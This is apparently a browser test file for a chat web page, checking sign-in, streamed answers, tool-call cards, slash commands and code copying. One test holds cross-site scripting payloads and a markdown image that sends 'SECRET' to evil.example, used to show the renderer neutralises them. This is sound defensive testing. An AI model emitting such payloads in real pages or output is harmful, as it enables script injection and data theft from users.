/** The page in a real browser: signing in, watching an answer grow, and what hostile text gets. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { openDoor } from '../channels/http-client.ts';
import type { OpenDoor } from '../channels/http-client.ts';
import type { FakeTurn } from '../fakes/fake-turn.ts';
import { announceSkip, findChromium, launch, signIn, visit, WAIT, write } from './browser.ts';

const TOKEN = 'admin-token-of-the-owner';
const chromiumPath = findChromium();
if (chromiumPath === undefined) announceSkip();

describe.skipIf(chromiumPath === undefined)('the page', () => {
  let browser: Browser;
  let door: OpenDoor;
  let page: Page;
  let complaints: string[];
  let turns: FakeTurn[];

  beforeAll(async () => {
    browser = await launch(chromiumPath ?? '');
  });
  afterAll(() => browser.close());
  beforeEach(async () => {
    door = await openDoor();
    turns = [];
    door.house.script = (turn) => void turns.push(turn);
    ({ page, complaints } = await visit(browser, door.url));
  });
  afterEach(async () => {
    await page.context().close();
    await door.close();
    if (complaints.length > 0) throw new Error(complaints.join('\n'));
  });

  /** A picture of what was seen, where somebody wants to look. */
  const look = async (name: string): Promise<void> => {
    const folder = process.env['PARLEY_SCREENSHOTS'];
    if (folder !== undefined) await page.screenshot({ path: `${folder}/${name}.png` });
  };

  /** Sends a message and waits until its turn runs and the page listens. */
  async function ask(text: string): Promise<FakeTurn> {
    const before = turns.length;
    await write(page, text);
    await vi.waitFor(() => expect(turns.length).toBe(before + 1), WAIT);
    await vi.waitFor(() => expect(door.house.events.listeners.size).toBe(1), WAIT);
    return turns[before]!;
  }

  describe('signing in', () => {
    it('refuses a wrong token readably, takes a right one, and never puts it in the address', async () => {
      await page.getByLabel('Token').fill('wrong');
      await page.keyboard.press('Enter');
      await page.getByText('That token is not valid.').waitFor();
      await signIn(page, TOKEN);
      await page.getByText('What shall we talk about?').waitFor();
      expect(page.url()).not.toContain('token');
      expect(await page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 1]);
      await page.reload();
      await page.getByText('What shall we talk about?').waitFor();
    });

    it('stays on the device only when asked to, and is undone by signing out', async () => {
      await page.getByLabel('Keep me signed in').check();
      await signIn(page, TOKEN);
      expect(await page.evaluate(() => localStorage.length)).toBe(1);
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.getByLabel('Token').waitFor();
      expect(await page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 0]);
    });

    it('is asked for again when the token is revoked', async () => {
      await signIn(page, TOKEN);
      await ask('hello');
      door.house.tokens.clear();
      await page.getByLabel('Token').waitFor();
      expect(await page.getByRole('alert').first().innerText()).toContain('That token is not valid.');
    });
  });

  describe('an answer', () => {
    beforeEach(() => signIn(page, TOKEN));

    it('grows token by token and ends as exactly the stored text (B-43)', async () => {
      const turn = await ask('tell me');
      await page.getByLabel('The answer is being made').waitFor();
      turn.say('Once **upon**');
      await page.locator('.md strong', { hasText: 'upon' }).waitFor();
      turn.say(' a time');
      await page.locator('.md', { hasText: 'Once upon a time' }).waitFor();
      turn.end();
      await page.locator('.turn-foot time').waitFor();
      expect(await page.locator('.md').allInnerTexts()).toEqual(['Once upon a time']);
      expect(turn.final?.content).toBe('Once **upon** a time');
      expect(await page.locator('#announcer').innerText()).toContain('a time');
    });

    it('folds its thinking and shows tool calls as cards, pending and done (B-42, N-53)', async () => {
      const turn = await ask('look');
      turn.think('First I look, ', 'then I speak.');
      const thinking = page.locator('details.thinking');
      await thinking.getByText('Thought for').waitFor();
      expect(await thinking.getByText('First I look').isVisible()).toBe(false);
      await thinking.locator('summary').click();
      await thinking.getByText('First I look, then I speak.').waitFor();
      const call = turn.tool('read_file', { path: 'notes.md' });
      const card = page.locator('.tool');
      await card.getByText('running…').waitFor();
      turn.result(call, 'read_file', 'three lines');
      await card.getByText('done', { exact: true }).waitFor();
      expect(await card.getByText('three lines').isVisible()).toBe(false);
      await card.locator('summary').click();
      await card.getByText('three lines').waitFor();
      const lost = turn.tool('list_dir', {});
      expect(lost).toMatch(/call/);
      turn.end('stopped');
      await page.getByText('not finished').waitFor();
    });

    it('stops when told to', async () => {
      const turn = await ask('a long story');
      turn.say('It was');
      await page.getByRole('button', { name: 'Stop the answer' }).click();
      await page.locator('.md em', { hasText: '(stopped)' }).waitFor();
      expect(turn.stopped.signal.aborted).toBe(true);
      await page.getByRole('button', { name: 'Stop the answer' }).waitFor({ state: 'hidden' });
      expect((await page.locator('.md').allInnerTexts()).join(' ')).toBe('It was (stopped)');
    });

    it('says how many messages are before it', async () => {
      const first = await ask('one');
      await write(page, 'two');
      await page.getByText('Waiting: one message is before this one.').waitFor();
      await write(page, 'three');
      await page.getByText('Waiting: 2 messages are before this one.').waitFor();
      first.say('Answer one');
      first.end();
      await page.getByText('Waiting: 2 messages').waitFor({ state: 'hidden' });
      turns[1]?.say('Answer two');
      turns[1]?.end();
      await page.locator('.md', { hasText: 'Answer two' }).waitFor();
      const shown = await page.locator('.bubble, .md').allInnerTexts();
      expect(shown).toEqual(['one', 'Answer one', 'two', 'Answer two', 'three']);
    });

    it('offers the commands of the house behind a slash, by keyboard and by hand', async () => {
      const field = page.getByLabel('Message', { exact: true });
      const menu = page.getByRole('listbox', { name: 'Commands' });
      await field.pressSequentially('/');
      await vi.waitFor(async () => expect(await menu.getByRole('option').count()).toBe(5), WAIT);
      await field.press('ArrowUp');
      expect(await menu.getByRole('option', { selected: true }).innerText()).toContain('/help');
      await look('commands');
      await field.press('Escape');
      await menu.waitFor({ state: 'hidden' });
      await field.pressSequentially('m');
      await field.press('Enter');
      expect(await field.inputValue()).toBe('/mode ');
      await field.fill('/st');
      await menu.getByRole('option').nth(1).click();
      expect(await field.inputValue()).toBe('/status');
      await field.fill('/status');
      await field.press('Enter');
      await page.locator('.bubble', { hasText: '/status' }).waitFor();
      expect(await field.inputValue()).toBe('');
      expect(await menu.isVisible()).toBe(false);
    });

    it('may fail, and then says why (B-47)', async () => {
      const turn = await ask('hello');
      turn.end('failed', 'No model server answers. Start it with "ollama serve".');
      const error = page.locator('.turn-error');
      await error.waitFor();
      expect(await error.innerText()).toBe('No model server answers. Start it with "ollama serve".');
    });

    it('begins again where a model call broke', async () => {
      const turn = await ask('hello');
      turn.say('Good mor');
      await page.locator('.md', { hasText: 'Good mor' }).waitFor();
      turn.reset();
      turn.say('Bonjour');
      turn.end();
      await page.locator('.turn-foot time').waitFor();
      expect(await page.locator('.md').allInnerTexts()).toEqual(['Bonjour']);
    });

    it('goes on where a snapshot ends, in the same paragraph', async () => {
      const turn = await ask('hello');
      turn.say('one **bo');
      await page.locator('.md', { hasText: 'bo' }).waitFor();
      turn.snapshot();
      turn.say('ld** word');
      await page.locator('.md strong', { hasText: 'bold' }).waitFor();
      expect(await page.locator('.md').allInnerTexts()).toEqual(['one bold word']);
      turn.end();
    });

    it('cannot run, load or frame anything, whatever the model writes', async () => {
      const turn = await ask('<img src=x onerror=alert(1)>');
      turn.say(
        '<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n',
        '![x](https://evil.example/?d=SECRET) [click](javascript:alert(3)) [data](data:text/html,hi)\n\n',
        '[quote](https://ok.example/"onmouseover="alert(4)) <https://ok.example/a>\n\n',
        '| a | <b onclick=alert(5)>b</b> |\n|---|---|\n| `<i>` | [z](vbscript:x) |\n',
      );
      turn.end();
      await page.locator('.turn-foot time').waitFor();
      expect(await page.locator('.turn :is(script, img, iframe, b, i:not(.dots i))').count()).toBe(0);
      const hrefs = await page
        .locator('.turn a')
        .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
      expect(hrefs.every((href) => href?.startsWith('https://') === true)).toBe(true);
      expect(hrefs).toHaveLength(3);
      expect(await page.locator('.md').innerText()).toContain('<script>alert(1)</script>');
    });

    it('keeps code as it is, with a button to copy it', async () => {
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
      const turn = await ask('code');
      turn.say('```js\nconst a = "<b>";\n  indented();\n', '```\n');
      turn.end();
      await page.getByRole('button', { name: 'Copy the code' }).click();
      await page.getByText('Copied').waitFor();
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
        'const a = "<b>";\n  indented();',
      );
    });
  });
});
